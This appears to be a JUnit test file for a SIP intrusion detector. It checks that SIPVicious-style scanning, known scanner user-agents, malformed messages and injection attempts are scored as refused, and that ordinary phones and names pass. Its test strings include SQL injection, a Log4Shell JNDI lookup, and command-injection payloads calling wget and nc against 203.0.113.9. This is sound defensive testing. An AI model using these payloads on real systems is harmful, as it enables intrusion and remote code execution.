package org.pbxguard.sip.detect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.pbxguard.sip.detect.Callers.notes;
import static org.pbxguard.sip.detect.Callers.svcrack;
import static org.pbxguard.sip.detect.Callers.svcrackCredentials;
import static org.pbxguard.sip.detect.Callers.svmap;
import static org.pbxguard.sip.detect.Callers.svmapCompact;
import static org.pbxguard.sip.detect.Callers.svwar;
import static org.pbxguard.sip.message.SipSamples.lines;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.pbxguard.core.finding.Finding;
import org.pbxguard.core.finding.Findings;
import org.pbxguard.sip.message.SipFault;
import org.pbxguard.sip.message.SipSamples;
import org.pbxguard.sip.message.SipView;

class SipDetectorsTest {
  /** From here on one message is refused. */
  private static final int REFUSED = 50;

  private static final String PHONE = "Yealink SIP-T46S 66.85.0.5";

  private final SipDetectors detectors = SipDetectors.standard();

  private List<Finding> look(String message) {
    Findings findings = new Findings();
    detectors.inspect(SipSamples.parse(message), findings);
    return findings.list();
  }

  private int points(String message) {
    return look(message).stream().mapToInt(Finding::points).sum();
  }

  private List<String> rules(String message) {
    return look(message).stream().map(Finding::rule).toList();
  }

  static Stream<String> honest() {
    return Callers.honest().keySet().stream();
  }

  @ParameterizedTest
  @MethodSource("honest")
  void honestUserAgent_isNeverRefused(String name) {
    String message = Callers.honest().getOrDefault(name, "");

    assertThat(SipSamples.parse(message).fault()).isEqualTo(SipFault.NONE);
    assertThat(points(message)).as("%s %s", name, rules(message)).isLessThanOrEqualTo(10);
  }

  @ParameterizedTest
  @ValueSource(strings = {"OPTIONS", "REGISTER", "INVITE"})
  void svmap_asItComes_isRefused(String method) {
    assertThat(points(svmap(method, "friendly-scanner"))).isGreaterThanOrEqualTo(REFUSED);
  }

  @ParameterizedTest
  @ValueSource(strings = {"OPTIONS", "REGISTER", "INVITE"})
  void svmap_withAPhonesUserAgent_isRefused(String method) {
    assertThat(rules(svmap(method, PHONE)))
        .contains("sip-tool-tag-notes", "sip-tool-display-name", "sip-tool-header-order");
  }

  @Test
  void svmap_compactWithoutUserAgent_isRefused() {
    assertThat(rules(svmapCompact()))
        .contains("sip-tool-tag-notes", "sip-tool-display-name", "sip-tool-header-order");
  }

  @ParameterizedTest
  @ValueSource(strings = {"OPTIONS", "INVITE"})
  void svwar_withAPhonesUserAgent_isRefused(String method) {
    assertThat(points(svwar(method, "101", PHONE, notes("101", 4598229292L))))
        .isGreaterThanOrEqualTo(REFUSED);
  }

  @Test
  void svwar_withAnotherTagToo_isRefusedByItsShape() {
    String message = svwar("OPTIONS", "101", PHONE, "8f3ac911");

    assertThat(rules(message))
        .contains("sip-tool-header-order", "sip-numeric-call-id", "sip-contact-at-target");
    assertThat(points(message)).isGreaterThanOrEqualTo(REFUSED);
  }

  /** The challenge tells it nothing; the guess that answers it proves where it comes from. */
  @Test
  void toolsRegister_withAPhonesUserAgent_isNotedAndMayBeChallenged() {
    assertThat(rules(svcrack(PHONE, "3206210844", ""))).containsExactly("sip-tool-shape");
    assertThat(rules(svwar("REGISTER", "101", PHONE, notes("101", 4598229292L))))
        .containsExactly("sip-tool-shape");
  }

  @Test
  void svcrack_guessWithAPhonesUserAgent_isNotedWithoutTellingThePassword() {
    String message = svcrack(PHONE, notes("1001:letmein", 1344342387L), svcrackCredentials());

    assertThat(rules(message)).containsExactly("sip-digest-qop-alone", "sip-tool-shape");
    assertThat(points(message)).isLessThan(REFUSED / 2);
    assertThat(look(message))
        .noneMatch(finding -> finding.evidence().contains(notes("letmein", 1).substring(0, 8)));
  }

  @Test
  void tagNotes_needNumberSeparatorAndText() {
    for (String tag :
        List.of(
            "31303101", // no number
            "0134353938", // no text
            "313031023435", // another separator
            "31303101343539382", // odd length
            "3130310134353938323239323932", // this one is it
            "31000101343539", // a control character in the text
            "3130310134353938323239323932313131313131" // too many digits
            )) {
      boolean expected = tag.equals("3130310134353938323239323932");
      assertThat(rules(svwar("OPTIONS", "101", PHONE, tag)).contains("sip-tool-tag-notes"))
          .as(tag)
          .isEqualTo(expected);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "friendly-scanner",
        "Friendly-Request",
        "sipvicious",
        "sundayddr",
        "sipcli/v1.8",
        "pplsip",
        "VaxSIPUserAgent/3.0",
        "SIVuS",
        "sippts v3",
      })
  void scannerName_isRefused(String agent) {
    String message = Callers.honest().getOrDefault("baresip", "").replace("baresip v1", agent);
    assertThat(points(message)).isGreaterThanOrEqualTo(REFUSED);
  }

  @Test
  void digestWithAParameterTwice_isRefused() {
    String message =
        SipSamples.REGISTER.replace("username=\"1001\",", "username=\"1001\", username=\"1002\",");
    assertThat(points(message)).isGreaterThanOrEqualTo(REFUSED);
  }

  @Test
  void oddShapes_alone_areOnlyMarked() {
    String broken = SipSamples.REGISTER.replace("Contact: <sip:", "Contact: <sip <sip:");
    assertThat(rules(broken)).containsExactly("sip-contact-broken");
    assertThat(points(broken)).isLessThan(REFUSED);
    String twice = SipSamples.REGISTER.replace("Expires: 3600", "Expires: 3600\r\nExpires: 1");
    assertThat(rules(twice)).containsExactly("sip-header-twice");
    String control = SipSamples.REGISTER.replace("User-Agent: baresip", "User-Agent: \u0007");
    assertThat(rules(control)).containsExactly("sip-header-control-characters");
  }

  @Test
  void malformedMessage_isNamedByItsFault() {
    String twice = SipSamples.INVITE.replace("CSeq:", "Call-ID: other\r\nCSeq:");
    assertThat(rules(twice)).containsExactly("sip-malformed-call-id-duplicate");
    assertThat(points(twice)).isGreaterThanOrEqualTo(REFUSED);
    String cut = SipSamples.REGISTER.substring(0, 200);
    assertThat(rules(cut)).containsExactly("sip-malformed-unfinished");
    assertThat(points(cut)).isLessThan(20);
  }

  @Test
  void response_isNotInspected() {
    String answer =
        lines(
            "SIP/2.0 200 OK",
            "Via: SIP/2.0/UDP a;branch=z9hG4bK-12345678",
            "From: <sip:a@b>;tag=3206210844",
            "To: <sip:a@b>;tag=2",
            "Call-ID: 1234567890",
            "CSeq: 1 OPTIONS",
            "User-Agent: friendly-scanner",
            "",
            "");
    assertThat(look(answer)).isEmpty();
  }

  @Test
  void nothingFromAnEarlierMessage_staysInTheLater() {
    assertThat(points(svmap("OPTIONS", "friendly-scanner"))).isGreaterThanOrEqualTo(REFUSED);
    assertThat(look(SipSamples.REGISTER)).isEmpty();
    assertThat(look(SipSamples.INVITE)).isEmpty();
  }

  @Test
  void emptyView_isNoTrouble() {
    SipView view = new SipView();
    Findings findings = new Findings();
    view.parse(new byte[0], 0, 0);
    detectors.inspect(view, findings);
    assertThat(findings.list()).extracting(Finding::rule).containsExactly("sip-malformed-empty");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "1001' or '1'='1",
        "1001' OR 1=1-- ",
        "x' UNION SELECT username,password FROM users-- ",
        "1001'; drop table sip_users; --",
        "1001$(wget http://203.0.113.9/x)",
        "1001`id`",
        "1001;wget http://203.0.113.9/a",
        "1001 | nc 203.0.113.9 4444",
        "${jndi:ldap://203.0.113.9/a}",
      })
  void injectionInADisplayName_isRefused(String text) {
    String message = SipSamples.REGISTER.replace("\"Alice\"", '"' + text + '"');
    assertThat(points(message)).as("%s", rules(message)).isGreaterThanOrEqualTo(REFUSED);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "1001'%20or%20'1'='1",
        "1001'%20UNION%20SELECT%20secret%20FROM%20users--%20",
        "1001%24%28id%29",
        "1001%60id%60",
      })
  void injectionInAUser_isRefused(String user) {
    String message = SipSamples.INVITE.replace("<sip:1001@", "<sip:" + user + '@');
    assertThat(SipSamples.parse(message).fault()).isEqualTo(SipFault.NONE);
    assertThat(points(message)).as("%s", rules(message)).isGreaterThanOrEqualTo(REFUSED);
  }

  @Test
  void injectionInCredentials_isRefused() {
    String message =
        SipSamples.REGISTER.replace("username=\"1001\"", "username=\"1001' or 'a'='a\"");
    assertThat(points(message)).as("%s", rules(message)).isGreaterThanOrEqualTo(REFUSED);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Conan O'Brien",
        "Sales & Support",
        "Union Select Travel",
        "R&D (2nd floor)",
        "50% off; call now",
        "Zoe \u00FCber",
        "Order 1-2-3 | Desk",
        "Cats; Dogs & Sons",
      })
  void ordinaryDisplayName_isNotRefused(String name) {
    String message = SipSamples.REGISTER.replace("\"Alice\"", '"' + name + '"');
    assertThat(points(message)).as("%s", rules(message)).isLessThan(REFUSED);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Acrobits Softphone/6.8.2 (iPhone; iOS 15.1)",
        "Mozilla/5.0; JsSIP 3.10.0",
        "Z 5.5.9 v2.10.17.3; rv",
        "TP-Link/VX230v;0.9.1 (v1.0.0)",
      })
  void ordinaryUserAgent_isNotRefused(String agent) {
    String message = SipSamples.REGISTER.replace("baresip v1.0.0 (x86_64/Linux)", agent);
    assertThat(points(message)).as("%s", rules(message)).isLessThan(REFUSED);
  }
}
